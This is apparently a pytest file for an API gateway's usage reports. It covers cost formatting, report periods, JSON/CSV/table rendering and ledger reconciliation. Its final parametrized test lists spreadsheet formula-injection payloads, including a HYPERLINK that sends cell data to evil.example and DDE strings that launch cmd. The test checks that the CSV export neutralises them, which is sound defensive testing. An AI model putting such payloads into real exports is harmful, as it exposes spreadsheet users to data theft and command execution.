"""Usage reports: periods, exact costs, reconciliation with the ledger, and the three renderings."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path

import pytest

from gateway.errors import InvalidRequestError
from gateway.records import UsageGroup, UsageRecord
from gateway.reporting.reports import (
    ReportPeriod,
    UsageReport,
    UsageReporter,
    format_amount,
    render_csv,
    render_json,
    render_table,
)
from gateway.store.sqlite import SqliteStore

NOV_1 = dt.datetime(2026, 11, 1, tzinfo=dt.UTC).timestamp()
DAY = 86_400.0


def sample_report() -> UsageReport:
    lines = [
        UsageGroup("m1", 2, 1_000, 250, 123_456_789, cached_tokens=768),
        UsageGroup("model-two", 1, 5, 0, 10**12 + 1),
    ]
    return UsageReport("acme", ReportPeriod.parse("2026-11-01", "2026-11-30"), "model", "USD", lines)


def test_costs_are_printed_exactly_with_twelve_decimals() -> None:
    assert format_amount(0) == "0.000000000000"
    assert format_amount(1) == "0.000000000001"
    assert format_amount(1_234_500_000_000) == "1.234500000000"
    big = 123_456_789_012_345_678_901_234  # beyond a float's 53 bits
    assert format_amount(big) == "123456789012.345678901234"


def test_period_is_whole_utc_days_with_both_ends_included() -> None:
    period = ReportPeriod.parse("2026-11-01", "2026-11-30")
    assert period.start == NOV_1
    assert period.end == dt.datetime(2026, 12, 1, tzinfo=dt.UTC).timestamp()
    assert ReportPeriod.parse("2026-11-01", "2026-11-01").end - NOV_1 == DAY
    assert ReportPeriod.parse("2026-12-30", "2027-01-02").days() == [
        "2026-12-30",
        "2026-12-31",
        "2027-01-01",
        "2027-01-02",
    ]
    with pytest.raises(InvalidRequestError) as backwards:
        ReportPeriod.parse("2026-11-02", "2026-11-01")
    assert backwards.value.param == "to"
    with pytest.raises(InvalidRequestError) as garbage:
        ReportPeriod.parse("yesterday", "2026-11-01")
    assert garbage.value.param == "from"


def test_total_adds_every_line() -> None:
    total = sample_report().total
    assert total == UsageGroup("total", 3, 1_005, 250, 10**12 + 123_456_790, cached_tokens=768)


def test_json_rendering() -> None:
    data = json.loads(render_json(sample_report()))
    assert data == {
        "object": "usage.report",
        "tenant": "acme",
        "from": "2026-11-01",
        "to": "2026-11-30",
        "group_by": "model",
        "currency": "USD",
        "data": [
            {
                "group": "m1",
                "requests": 2,
                "prompt_tokens": 1000,
                "cached_tokens": 768,
                "completion_tokens": 250,
                "total_tokens": 1250,
                "cost": "0.000123456789",
            },
            {
                "group": "model-two",
                "requests": 1,
                "prompt_tokens": 5,
                "cached_tokens": 0,
                "completion_tokens": 0,
                "total_tokens": 5,
                "cost": "1.000000000001",
            },
        ],
        "total": {
            "group": "total",
            "requests": 3,
            "prompt_tokens": 1005,
            "cached_tokens": 768,
            "completion_tokens": 250,
            "total_tokens": 1255,
            "cost": "1.000123456790",
        },
    }


def test_csv_rendering() -> None:
    assert render_csv(sample_report()) == (
        "model,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency,cached_tokens\n"
        "m1,2,1000,250,1250,0.000123456789,USD,768\n"
        "model-two,1,5,0,5,1.000000000001,USD,0\n"
        "total,3,1005,250,1255,1.000123456790,USD,768\n"
    )


def test_table_rendering_aligns_numbers_and_rules_off_the_total() -> None:
    assert render_table(sample_report()).splitlines() == [
        "usage of acme, 2026-11-01 to 2026-11-30 (UTC), cost in USD",
        "model      requests  prompt_tokens  cached_tokens  completion_tokens  total_tokens            cost",
        "---------  --------  -------------  -------------  -----------------  ------------  --------------",
        "m1                2           1000            768                250          1250  0.000123456789",
        "model-two         1              5              0                  0             5  1.000000000001",
        "---------  --------  -------------  -------------  -----------------  ------------  --------------",
        "total             3           1005            768                250          1255  1.000123456790",
    ]


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[SqliteStore]:
    s = SqliteStore(tmp_path / "ledger.db")
    await s.open()
    try:
        yield s
    finally:
        await s.close()


async def test_report_totals_reconcile_with_random_ledger_rows(store: SqliteStore) -> None:
    rng = random.Random(7)
    tenant = await store.create_tenant("acme")
    other = await store.create_tenant("other")
    keys = [await store.create_key("acme", f"{i}" * 64, "sk-gw-x", None, None) for i in range(3)]
    rows = [
        UsageRecord(
            f"r{i}",
            rng.choice([tenant.id, tenant.id, other.id]),
            rng.choice(keys).id,
            rng.choice(["m1", "m2", "m3"]),
            "chat.completions",
            NOV_1 + rng.uniform(-2 * DAY, 32 * DAY),
            prompt_tokens=(prompt := rng.randrange(5000)),
            completion_tokens=rng.randrange(5000),
            cost_pico=rng.randrange(10**13),
            cached_tokens=rng.randrange(prompt + 1),
        )
        for i in range(400)
    ]
    await store.insert_usage(rows)
    period = ReportPeriod.parse("2026-11-01", "2026-11-30")
    mine = [r for r in rows if r.tenant_id == tenant.id and period.start <= r.started_at < period.end]
    assert 0 < len(mine) < len(rows)
    reporter = UsageReporter(store, "USD")
    for group_by in ("day", "model", "key"):
        report = await reporter.report("acme", period, group_by)
        assert report.total == UsageGroup(
            "total",
            len(mine),
            sum(r.prompt_tokens for r in mine),
            sum(r.completion_tokens for r in mine),
            sum(r.cost_pico for r in mine),
            sum(r.cached_tokens for r in mine),
        )
        data = json.loads(render_json(report))
        assert sum(Decimal(line["cost"]) for line in data["data"]) == Decimal(data["total"]["cost"])
    daily = await reporter.daily_by_model("acme", period)
    assert sum(daily.cost_pico.values()) == sum(r.cost_pico for r in mine)
    assert sum(daily.tokens.values()) == sum(r.prompt_tokens + r.completion_tokens for r in mine)
    assert sum(daily.cached_tokens.values()) == sum(r.cached_tokens for r in mine)


def test_a_period_left_out_is_the_month_to_date() -> None:
    now = dt.datetime(2026, 11, 17, 23, 59, tzinfo=dt.UTC).timestamp()
    period = ReportPeriod.parse_or_month_to_date(None, None, now)
    assert (period.first.isoformat(), period.last.isoformat()) == ("2026-11-01", "2026-11-17")
    period = ReportPeriod.parse_or_month_to_date(None, "2026-02-10", now)
    assert (period.first.isoformat(), period.last.isoformat()) == ("2026-02-01", "2026-02-10")
    period = ReportPeriod.parse_or_month_to_date("2026-10-30", None, now)
    assert (period.first.isoformat(), period.last.isoformat()) == ("2026-10-30", "2026-11-17")


@pytest.mark.parametrize(
    "group",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(group: str) -> None:
    period = ReportPeriod.parse("2026-11-01", "2026-11-30")
    report = UsageReport("acme", period, "model", "USD", [UsageGroup(group, 1, 1, 1, 1)])
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    assert rows[1][0] == "'" + group.replace("\r", "\n")  # one row, whatever the group holds
    assert rows[2][0] == "total"  # plain cells are left alone


def test_a_harmless_group_is_left_as_it_is() -> None:
    assert render_csv(sample_report()).splitlines()[1].startswith("m1,")
